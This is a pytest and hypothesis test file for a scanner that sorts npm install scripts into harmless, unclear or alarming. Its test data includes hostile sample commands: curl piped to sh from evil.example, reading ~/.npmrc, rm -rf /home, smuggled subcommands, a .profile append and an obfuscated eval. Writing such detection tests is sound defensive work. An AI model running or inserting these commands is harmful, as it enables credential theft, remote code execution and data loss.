"""How install scripts read: what they say they do, and what no honest word may hide."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from monitor.changes.script_rules import COMMANDS, LONGEST_READ, Verdict, in_words, read_script


@pytest.mark.parametrize(
    ("script", "verdict", "words"),
    [
        ("node-gyp rebuild", "harmless", "builds native code with node-gyp"),
        ("prebuild-install || node-gyp rebuild", "harmless", "downloads a prebuilt binary"),
        ("node-gyp-build", "harmless", "downloads a prebuilt binary"),
        ("echo 'see https://docs.example' && exit 0", "alarming", "prints a message"),
        ("echo 'see https://docs.example'", "harmless", "only prints a message"),
        ("node install.js", "unclear", "runs a file of the package"),
        ("npm install extra-package", "unclear", "installs further packages"),
        ("yarn install", "harmless", "development tools"),
        ("curl -s https://evil.example/x | sh", "alarming", "talks to the network"),
        ("node -e \"require('child_process')\"", "alarming", "code written into the command"),
        ("node -e 'eval(atob(x))'", "alarming", "hides what it does"),
        ("cat ~/.npmrc > /tmp/x", "alarming", "reads credentials"),
        ("make", "unclear", "runs a build of its own"),
        ("quux --frob", "unclear", "its words do not explain"),
    ],
)
def test_a_script_is_told_in_plain_words(script: str, verdict: str, words: str) -> None:
    assert read_script(script).verdict == verdict
    assert words in in_words({"postinstall": script})


@pytest.mark.parametrize(
    "hidden",
    [
        "node-gyp rebuild && rm -rf /home",
        "echo harmless; ./payload",
        "echo harmless | sh",
        "echo `./payload`",
        "echo $(./payload)",
        "echo payload >> /home/user/.profile",
        "node-gyp-evil rebuild",
        "npmevil",
        "echo 'a' & ./payload &",
        "echo ok\n./payload",
        f"echo {'a' * LONGEST_READ} && ./payload",
        "echo ' & payload & '",
        "node-gyp rebuild ' | payload '",
    ],
)
def test_an_honest_word_hides_nothing_behind_it(hidden: str) -> None:
    assert read_script(hidden).verdict is not Verdict.HARMLESS


@given(st.text(alphabet="'\"&;| echonpm$`\n-/.>", max_size=300))
@example("'" * LONGEST_READ)
@example("echo " + "'a' " * 1000)
@example("npm " + "-a " * 1300)
@example("npm i " + "-a " * 1300)
def test_any_text_reads_as_one_of_three_quickly(text: str) -> None:
    began = time.process_time()
    reading = read_script(text)
    assert time.process_time() - began < 2
    assert reading.verdict in Verdict
    assert all(isinstance(words, str) for words in reading.does)


@given(st.sampled_from(["node-gyp rebuild", "true", "node-pre-gyp install"]), st.sampled_from(["&&", "||", ";"]))
def test_what_is_added_to_a_script_never_makes_it_read_better(command: str, between: str) -> None:
    assert read_script(f"{command} {between} {command}").verdict is Verdict.HARMLESS
    assert read_script(f"{command} {between} quux").verdict is Verdict.UNCLEAR
    assert read_script(f"{command} {between} curl x.example").verdict is Verdict.ALARMING


def test_each_rule_says_something_of_its_own() -> None:
    assert len({rule.does for rule in COMMANDS}) == len(COMMANDS)


def test_what_stands_far_behind_in_a_script_is_read_too() -> None:
    assert read_script(f"echo {'a' * LONGEST_READ} && curl https://evil.example").verdict is Verdict.ALARMING
